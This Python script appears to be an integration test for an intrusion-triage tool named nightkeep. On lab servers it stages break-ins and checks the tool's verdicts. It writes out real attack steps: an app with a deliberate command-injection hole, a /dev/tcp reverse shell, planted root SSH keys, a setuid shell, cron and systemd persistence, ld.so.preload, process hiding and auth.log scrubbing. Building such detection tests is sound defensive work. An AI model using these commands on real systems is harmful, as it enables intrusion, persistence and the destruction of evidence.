#!/usr/bin/env python3
"""Whole bad nights on real servers: somebody breaks in from a second server, or only something breaks.

    LAB=path/to/lab NIGHTKEEP=path/to/binary lab/intrusion.py [SUITE [NIGHT...]]

Each night has a fresh server on which nightkeep is installed as the README says, with accounts and an
application of its owner; the other server, from which the intruder comes, stays. The verdict, the rules it
cites and each planted step are compared with what `nightkeep triage` says. KEEP=1 leaves the servers up.
"""

import json
import os
import sys
import tempfile
import time

os.environ.setdefault("POST", "evil1")
from story import BINARY, LAB, POST, ROOT, WEB, Server, lab, wait_for  # noqa: E402

NIGHTS = []

# The owner's application: it runs what it is told, which is its hole.
APPLICATION = r'''
import http.server, subprocess, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        said = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query).get("cmd", ["true"])[0]
        done = subprocess.run(["sh", "-c", said], capture_output=True, timeout=60)
        self.send_response(200); self.end_headers(); self.wfile.write(done.stdout)
http.server.ThreadingHTTPServer(("", 8000), Handler).serve_forever()
'''
UNIT = "[Service]\nUser=www-data\nExecStart=/usr/bin/python3 /srv/app/app.py\n[Install]\nWantedBy=multi-user.target\n"
# What the intruder brings: it does nothing for ten minutes.
AGENT = "sleep"


def night(function):
    NIGHTS.append(function)
    return function


class Night:
    def __init__(self, suite, evil):
        self.evil = evil
        self.web = Server(WEB, suite)

    def install(self):
        web = self.web
        web.run("mkdir -p /root/nk /srv/app; useradd -m -s /bin/bash -G sudo deploy; useradd -m -s /bin/bash ann;"
                " echo deploy:summer24 | chpasswd; printf 'DB_PASSWORD=hunter22\\n' > /srv/app/.env;"
                " chown www-data: /srv/app/.env; chmod 600 /srv/app/.env")
        with tempfile.TemporaryDirectory() as folder:
            for name, text in (("app.py", APPLICATION), ("app.service", UNIT)):
                path = os.path.join(folder, name)
                with open(path, "w") as file:
                    file.write(text)
                web.push(path, "/srv/app/")
        key = self.evil.run("[ -f /root/stolen ] || ssh-keygen -q -t ed25519 -N '' -f /root/stolen; cat /root/stolen.pub")
        web.run(f"mkdir -p /home/ann/.ssh; echo '{key.strip()}' > /home/ann/.ssh/authorized_keys; chown -R ann: /home/ann/.ssh;"
                " mv /srv/app/app.service /etc/systemd/system/; systemctl daemon-reload; systemctl enable --now app.service 2>&1;"
                " printf 'PasswordAuthentication yes\\n' > /etc/ssh/sshd_config.d/00-lab.conf; systemctl reload ssh")
        web.push(BINARY, "/root/nk/nightkeep")
        web.push(ROOT / "packaging", "/root/nk/")
        # ann's own login, from the server itself: her key is known.
        print(web.run("cd /root/nk && sh packaging/install.sh ./nightkeep 2>&1 | tail -12"))
        time.sleep(30)

    def ssh(self, user, command, key="/root/stolen", check=True):
        """As the intruder, by key."""
        options = "-n -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
        return self.evil.run(f"ssh {options} -i {key} {user}@{self.web.address} '{command}'", check=check)

    def password(self, user, password, command="true"):
        """As the intruder, by a password."""
        options = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o LogLevel=ERROR"
        ask = f"printf \"#!/bin/sh\\necho {password}\\n\" > /root/ask; chmod +x /root/ask;"
        return self.evil.run(
            f"{ask} SSH_ASKPASS=/root/ask SSH_ASKPASS_REQUIRE=force setsid -w ssh -n {options} {user}@{self.web.address} '{command}'",
            check=False)

    def cmd(self, command):
        """Through the hole of the application."""
        return self.evil.run(f"python3 - <<'E'\nimport urllib.request, urllib.parse\nurl = 'http://{self.web.address}:8000/?' + urllib.parse.urlencode(dict(cmd={command!r}))\nprint(urllib.request.urlopen(url, timeout=90).read().decode())\nE")

    def triage(self):
        text = self.web.run("nightkeep triage --json --since 1d", check=False)
        return json.loads(text[text.index("{"):])

    def judge(self, answer, rules, steps):
        """The verdict, its rules, and that the findings or the story name each step."""
        report = self.triage()
        print(self.web.run("nightkeep triage --since 1d", check=False))
        verdict = report["verdict"]
        cited = [reason["rule"] for reason in verdict["reasons"]]
        findings = [f for f in report["findings"] if f["severity"] != "info"]
        said = " ".join(json.dumps(f) for f in findings) + json.dumps(report["story"])
        story = json.dumps(report["story"])
        wrong = [] if verdict["answer"] == answer else [f"answer {verdict['answer']}, not {answer}"]
        wrong += [f"{rule} is not cited (but {cited})" for rule in rules if rule not in cited]
        wrong += [f"not found: {step}" for step in steps if step not in said]
        wrong += [f"not in the story: {step}" for step in steps if step in said and step not in story]
        if answer == "nothing-seen":
            wrong += [f"{f['id']} {f['sentence']}" for f in findings if f["meaning"] != ["fault"]]
        return wrong


@night
def webshell(night):
    """Through a hole of the application, as its user only."""
    night.evil.run("systemd-run --quiet --collect --unit=catch python3 -c 'import socket, time; s = socket.create_server((\"0.0.0.0\", 4444)); c = s.accept(); time.sleep(900)'")
    night.cmd("mkdir -p /dev/shm/.cache; cp /bin/sleep /dev/shm/.cache/agent; setsid /dev/shm/.cache/agent 900 >/dev/null 2>&1 </dev/null &")
    night.cmd(f"setsid bash -c 'exec bash -i >& /dev/tcp/{night.evil.address}/4444 0>&1' >/dev/null 2>&1 </dev/null &")
    night.cmd("echo '@reboot /dev/shm/.cache/agent 900' | crontab -")
    time.sleep(5)
    wrong = night.judge("patch", ["R5"], ["/dev/shm/.cache/agent", night.evil.address, "crontabs/www-data"])
    report = night.triage()
    secrets = [path for one in report["remedy"]["secrets"] for path in one["paths"]]
    if "/srv/app/.env" not in secrets or "/etc/shadow" in secrets:
        wrong.append(f"secrets to change: {secrets}")
    # As the steps say: it is contained.
    night.web.run("systemctl stop app; pkill -9 -u www-data; crontab -u www-data -r; rm -rf /dev/shm/.cache", check=False)
    after = night.triage()["verdict"]["answer"]
    if after not in ("nothing-seen", "cannot-tell"):
        wrong.append(f"after it was contained: {after}")
    return wrong


@night
def root(night):
    """A guessed password, sudo, and three ways to stay."""
    for guess in ("123456", "password", "deploy"):
        night.password("deploy", guess)
    do = "echo summer24 | sudo -S sh -c \"{}\""
    night.password("deploy", "summer24", do.format("mkdir -p /root/.ssh; cat >> /root/.ssh/authorized_keys < /dev/null; id"))
    public = night.evil.run("cat /root/stolen.pub").strip()
    night.password("deploy", "summer24", do.format(f"echo {public} >> /root/.ssh/authorized_keys"))
    night.password("deploy", "summer24", do.format("mkdir -p /var/tmp/.n; cp /bin/sleep /var/tmp/.n/netd; cp /bin/dash /var/tmp/.n/sh; chmod 4755 /var/tmp/.n/sh"))
    night.password("deploy", "summer24", do.format("echo @hourly root /var/tmp/.n/netd 60 > /etc/cron.d/sysupd"))
    unit = "[Service]\\nExecStart=/var/tmp/.n/netd 900\\n[Install]\\nWantedBy=multi-user.target\\n"
    night.password("deploy", "summer24", do.format(f"printf \\\"{unit}\\\" > /etc/systemd/system/netd.service; systemctl daemon-reload; systemctl enable --now netd.service"))
    time.sleep(5)
    print(night.web.run("ls -la /etc/cron.d /etc/systemd/system/netd.service /var/tmp/.n; tail -2 /root/.ssh/authorized_keys", check=False))
    return night.judge("rebuild", ["R1", "R4"], [night.evil.address, "/root/.ssh/authorized_keys", "/etc/cron.d/sysupd", "netd.service", "/var/tmp/.n/sh", "/var/tmp/.n/netd"])


@night
def rootkit(night):
    """Root by a key, hiding, and logs that were cleaned."""
    public = night.evil.run("cat /root/stolen.pub").strip()
    night.web.run(f"echo '{public}' >> /root/.ssh/authorized_keys; sed -i s/PermitRootLogin.*/PermitRootLogin\\ yes/ /etc/ssh/sshd_config; systemctl reload ssh")
    night.ssh("root", "cp /bin/sleep /usr/sbin/kauditd0; setsid /usr/sbin/kauditd0 900 >/dev/null 2>&1 & sleep 1; mount -t tmpfs none /proc/$(pidof kauditd0)")
    night.ssh("root", "cp /usr/lib/x86_64-linux-gnu/libdl.so.2 /usr/lib/libsysd.so; echo /usr/lib/libsysd.so > /etc/ld.so.preload")
    night.ssh("root", "cp /bin/true /bin/true.x; cat /bin/true.x /bin/true.x > /bin/mesg.x; mv /bin/mesg.x /usr/bin/mesg; chmod 755 /usr/bin/mesg; rm /bin/true.x")
    time.sleep(3)
    tampered = []
    if night.web.run("test -s /var/log/auth.log && echo yes", check=False):
        night.ssh("root", f"sed -i /{night.evil.address}/d /var/log/auth.log; systemctl restart rsyslog")
        tampered.append("auth.log")
    night.ssh("root", "ln -sf /dev/null /root/.bash_history")
    time.sleep(5)
    return night.judge("rebuild", ["R1", "R2"] + (["R3"] if tampered else []), ["kauditd0", "/usr/lib/libsysd.so", "/usr/bin/mesg", ".bash_history"] + tampered)


@night
def miner(night):
    """A stolen key of a user who is not root, and a miner."""
    night.ssh("ann", "mkdir -p .cache/.m; cp /bin/sleep .cache/.m/xmrig; setsid nice .cache/.m/xmrig 900 >/dev/null 2>&1 </dev/null &")
    night.ssh("ann", "echo \"@reboot /home/ann/.cache/.m/xmrig 900\" | crontab -")
    time.sleep(5)
    return night.judge("patch", ["R5"], [night.evil.address, "/home/ann/.cache/.m/xmrig", "crontabs/ann"])


@night
def out_of_memory(night):
    """Nobody was in: a service eats the memory."""
    unit = "[Service]\\nMemoryMax=60M\\nMemorySwapMax=0\\nExecStart=/usr/bin/python3 -c \"x = [bytearray(1000000) for _ in range(1000)]\"\\n"
    night.web.run(f"printf '{unit}' > /etc/systemd/system/eater.service; systemctl daemon-reload; systemctl start eater.service; sleep 15; systemctl status eater.service", check=False)
    night.web.run("nightkeep baseline accept /etc/systemd/system/eater.service --reason 'ours'", check=False)
    return night.judge("nothing-seen", ["R7"], [])


@night
def full_disk(night):
    """Nobody was in: the disk is full, and a service fails for it."""
    unit = "[Service]\\nType=oneshot\\nExecStart=/bin/dd if=/dev/zero of=/var/backup.img bs=1M\\n"
    night.web.run(f"printf '{unit}' > /etc/systemd/system/backup.service; systemctl daemon-reload; nightkeep baseline accept /etc/systemd/system/backup.service --reason ours; systemctl start backup.service; df -h /", check=False)
    wrong = night.judge("nothing-seen", ["R7"], [])
    night.web.run("rm /var/backup.img", check=False)
    return wrong


def main():
    suite = sys.argv[1] if len(sys.argv) > 1 else "bookworm"
    wanted = sys.argv[2:]
    trouble = []
    evil = Server(POST, suite)
    try:
        for tell in NIGHTS:
            if wanted and tell.__name__ not in wanted:
                continue
            print(f"== {suite}: {tell.__name__}: {tell.__doc__}", flush=True)
            one = Night(suite, evil)
            one.install()
            wrong = tell(one)
            print(f"== {tell.__name__}: {'well' if not wrong else wrong}", flush=True)
            trouble += [f"{tell.__name__}: {what}" for what in wrong]
            if not os.environ.get("KEEP"):
                lab("down", WEB)
    finally:
        if not os.environ.get("KEEP"):
            lab("down", POST)
    if trouble:
        sys.exit("\n".join(["wrong:"] + trouble))
    print(f"== all well on {suite}")


if __name__ == "__main__":
    main()
